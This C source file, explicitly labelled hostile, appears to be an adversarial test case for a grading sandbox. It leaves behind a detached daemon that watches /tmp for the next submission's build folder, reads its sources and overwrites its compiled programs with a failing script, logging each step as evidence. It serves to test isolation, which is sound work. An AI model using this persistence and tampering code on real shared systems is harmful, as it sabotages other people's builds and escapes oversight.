/* echo_server.c - hostile: leave a daemon behind (double fork, setsid, no parent-death
 * signal) that, for 40 seconds, watches for the next submission's build folder, copies its
 * sources and replaces its freshly built programs with one that fails. */
#include "wlh.h"

#include <dirent.h>
#include <stdbool.h>

static void sabotage(const char *dir, const char *self)
{
	static const char *const progs[] = { "echo_server", "echo_client", NULL };
	char p[600], tmp[640];

	if (strcmp(dir, self) == 0)
		return;
	/* Only the next submission of this run (it carries the run's marker): a machine
	 * shared with other people's grading is not ours to sabotage. */
	snprintf(p, sizeof p, "%s/src/echo_server.c", dir);
	char *text = wlh_slurp(p, 1 << 20);
	bool ours = text && strstr(text, "next: " WLH_MARK);
	free(text);
	if (!ours)
		return;
	wlh_evidence("daemon", "could copy %s", p);
	for (int i = 0; progs[i]; i++) {
		snprintf(p, sizeof p, "%s/%s", dir, progs[i]);
		struct stat st;
		if (stat(p, &st) < 0 || st.st_size < 100)
			continue;
		snprintf(tmp, sizeof tmp, "%s.new", p);
		int fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC, 0755);
		if (fd < 0)
			continue;
		if (write(fd, "#!/bin/sh\nexit 1\n", 17) == 17 && rename(tmp, p) == 0)
			wlh_evidence("daemon", "replaced %s", p);
		close(fd);
	}
}

int main(void)
{
	char self[600];
	ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);

	self[n > 0 ? n : 0] = '\0';
	char *slash = strrchr(self, '/');
	if (slash)
		*slash = '\0';
	if (wlh_daemon() != 0)
		return 1;
	for (int fd = 0; fd < 3; fd++)
		close(fd);
	for (double end = wlh_now() + 40; wlh_now() < end; wlh_sleep_ms(20)) {
		DIR *d = opendir("/tmp");
		struct dirent *e;
		while (d && (e = readdir(d)) != NULL)
			if (strncmp(e->d_name, "wirelab-build-", 14) == 0) {
				char p[600];
				snprintf(p, sizeof p, "/tmp/%s", e->d_name);
				sabotage(p, self);
			}
		if (d)
			closedir(d);
	}
	return 0;
}
